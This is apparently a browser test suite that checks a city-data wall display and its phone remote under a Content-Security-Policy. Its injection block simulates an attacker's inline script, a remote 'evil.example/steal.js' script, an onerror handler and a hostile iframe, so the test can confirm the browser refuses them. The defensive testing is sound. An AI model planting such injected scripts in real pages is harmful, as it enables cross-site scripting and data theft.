"""The wall and the presenter remote in headless Chromium under their Content-Security-Policy:
both work as before, the browser reports no violation, and a script the page did not ship is refused."""

from __future__ import annotations

import pytest
import requests
from selenium.webdriver.common.by import By

from tests.browser import open_wall, shapes_drawn, text_of, wait_for, wait_for_answers

pytestmark = pytest.mark.browser

TOKEN = "csp-browser-token-5e1d9a"  # 16+ characters


def trouble(driver) -> list[str]:
    """What the console says went wrong: every error, and every policy report whatever its level."""
    return [
        entry["message"]
        for entry in driver.get_log("browser")
        if entry["level"] == "SEVERE"
        or "Content Security Policy" in entry["message"]
        or "Refused to" in entry["message"]
    ]


def status_of(remote) -> str:
    return remote.find_element(By.ID, "status").text


def test_the_wall_and_the_remote_work_under_their_policy(live_wall_factory, browser_factory, artifacts):
    live = live_wall_factory(wall_control_token=TOKEN)
    policy = requests.get(live.url + "/", timeout=10).headers["Content-Security-Policy"]
    assert "script-src 'self' 'sha256-" in policy and "unsafe-eval" not in policy  # the policy under test

    wall = browser_factory(5760, 2160)
    open_wall(wall, live.url + "/")  # every district drawn, panel 6 filled, ages counting
    wait_for_answers(wall, 2)  # ticks answered under the policy too
    assert shapes_drawn(wall, "air-map") >= 25 and shapes_drawn(wall, "traffic-map") >= 25
    assert "km/h" in text_of(wall, "traffic-summary")
    assert wall.find_elements(By.CSS_SELECTOR, ".part-incident-list .incident")
    wall.save_screenshot(str(artifacts / "csp_wall.png"))
    assert trouble(wall) == []

    # The remote on a phone: its inline script shows the state, its requests change it.
    remote = browser_factory(430, 932)
    remote.get(live.url + f"/control?token={TOKEN}")
    wait_for(remote, lambda d: status_of(d) == "#0", message="the remote's script never ran")
    remote.find_element(By.CSS_SELECTOR, "button.l[data-lang='en']").click()
    wait_for(remote, lambda d: status_of(d) == "#1", message="the remote's change never reached the wall")
    remote.find_element(By.CSS_SELECTOR, "button.d[data-code='11440']").click()
    wait_for(remote, lambda d: status_of(d) == "#2")
    wait_for(
        remote,
        lambda d: (
            "on"
            in d.find_element(By.CSS_SELECTOR, "button.d[data-code='11440']")
            .get_dom_attribute("class")
            .split()
        ),
    )
    remote.save_screenshot(str(artifacts / "csp_remote.png"))

    # The wall follows within a tick, still under its policy.
    wait_for(
        wall,
        lambda d: d.find_element(By.CSS_SELECTOR, ".part-district-detail .detail-name").text == "Mapo-gu",
        message="the wall did not follow the remote",
    )
    wall.save_screenshot(str(artifacts / "csp_wall_following_the_remote.png"))
    assert trouble(remote) == [] and trouble(wall) == []
    assert live.errors.records == []

    # A remote whose session ended says so in words, not as a parse error.
    remote.delete_all_cookies()
    remote.find_element(By.CSS_SELECTOR, "button.l[data-lang='ko']").click()
    wait_for(remote, lambda d: "Session ended" in status_of(d), message="an ended session was not said")


# Run in the page as an injected script would be: each way of running code the page did not ship.
INJECT = """
window.__ran = [];
window.__refused = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__refused.push(e.effectiveDirective + " " + e.blockedURI);
});
const inline = document.createElement("script");
inline.textContent = "window.__ran.push('inline');";
document.body.appendChild(inline);
const remote = document.createElement("script");
remote.src = "http://evil.example/steal.js";
document.body.appendChild(remote);
const handler = document.createElement("div");
handler.innerHTML = '<img src="/assets/missing.png" onerror="window.__ran.push(\\'handler\\')">';
document.body.appendChild(handler);
// Listeners run in the order they were added: once this one has run, the attribute's had its turn.
handler.querySelector("img").addEventListener("error", () => { window.__imageFailed = true; });
const frame = document.createElement("iframe");
frame.src = "http://evil.example/";
document.body.appendChild(frame);
"""


@pytest.mark.parametrize("path", ["/", "/control"])
def test_a_script_the_page_did_not_ship_is_refused(live_wall_factory, browser_factory, path):
    live = live_wall_factory(wall_control_token=TOKEN)
    driver = browser_factory(1920, 1080)
    driver.get(live.url + (f"/control?token={TOKEN}" if path == "/control" else path))
    if path == "/":
        wait_for(driver, lambda d: shapes_drawn(d, "air-map") >= 25, message="the wall never drew")
    else:
        wait_for(driver, lambda d: status_of(d) == "#0", message="the remote never ran")
    driver.execute_script(INJECT)
    wait_for(
        driver,
        lambda d: len(d.execute_script("return window.__refused")) >= 4,
        message="the browser did not refuse what was injected",
    )
    wait_for(driver, lambda d: d.execute_script("return window.__imageFailed === true"))
    refused = driver.execute_script("return window.__refused")
    assert driver.execute_script("return window.__ran") == []
    assert any(r.startswith("script-src") and r.endswith("inline") for r in refused), refused
    assert any(r.startswith("script-src") and "evil.example" in r for r in refused), refused
    assert any(r.startswith("frame-src") and "evil.example" in r for r in refused), refused
